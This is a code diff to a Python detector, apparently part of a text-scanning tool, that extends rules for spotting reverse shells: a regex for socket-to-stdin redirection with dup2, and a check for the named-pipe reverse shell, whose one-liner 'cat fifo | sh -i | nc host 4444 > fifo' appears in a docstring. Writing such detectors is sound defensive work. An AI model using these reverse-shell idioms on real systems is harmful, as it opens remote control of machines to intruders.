@@ -7,7 +7,7 @@ from collections.abc import Iterator, Sequence
 from itertools import pairwise
 from typing import Final
 
-from rye.text.facts import calls, fetchers, shell
+from rye.text.facts import calls, fetchers, interpreters, shell
 from rye.text.facts.across import across
 from rye.text.facts.fact import PIPE_TO_SHELL
 from rye.text.facts.flow import Flow
@@ -64,6 +64,9 @@ _SPELLINGS: Final = (
 _REVERSE = re.compile(r"/dev/(?:tcp|udp)/[^\s/]{1,255}/[\w${}]{1,40}")
 _CONNECTORS: Final = word_set("nc ncat netcat socat")
 _SHELLS: Final = word_set("sh bash cmd zsh powershell")
+_DESCRIPTOR_WORDS = triggers(("dup2",))
+#: A program's input becomes a connection: ``os.dup2(s.fileno(), 0)``.
+_BECOMES_INPUT = re.compile(r"\bdup2\(\s*\w{1,40}\.fileno\(\)[^\n]{0,200}")
 _NC_RUNS = re.compile(r"-[a-z]*[ec]")
 
 
@@ -83,6 +86,11 @@ def find(source: Source) -> Iterator[RuleMatch]:
                 yield RuleMatch(PIPE_TO_SHELL, shown(match[0]), *source.place(line, match.start(), match[0].split()[0]))
     if source.has(_CONNECTION_WORDS):
         yield from _reverse_shells(source)
+    if source.has(_DESCRIPTOR_WORDS) and b"socket" in source.words and b"connect" in source.words:
+        for number in source.lines_with(_DESCRIPTOR_WORDS):
+            match = _BECOMES_INPUT.search(source.lines[number])
+            if match is not None:
+                yield RuleMatch(PIPE_TO_SHELL, shown(match[0]), number, match.start())
     yield from calls.find(source, calls.FETCHED, PIPE_TO_SHELL)
 
 
@@ -127,9 +135,18 @@ def _reverse_shells(source: Source) -> Iterator[RuleMatch]:
             for command, _ in commands:
                 names = [shell.program(word.text) for word in command.words]
                 index = next((at for at, name in enumerate(names) if name in _CONNECTORS), -1)
-                if index >= 0 and _hands_over(command.texts()[index + 1 :]):
+                if index >= 0 and (_hands_over(command.texts()[index + 1 :]) or _answers(command)):
                     place = source.place(line, command.start, names[index])
                     yield RuleMatch(PIPE_TO_SHELL, _shown(command.words[index:]), *place)
+
+
+def _answers(command: shell.Command) -> bool:
+    """Whether a connection gets the output of a shell that itself reads a pipe: ``cat fifo | sh -i | nc host 4444 > fifo``."""
+    before = command.before
+    if before is None or before.before is None or not before.words:
+        return False
+    at = interpreters.position(before)
+    return at >= 0 and shell.program(before.words[at].text) in _SHELLS and interpreters.runs_stdin(before)
 
 
 def _hands_over(arguments: list[str]) -> bool:
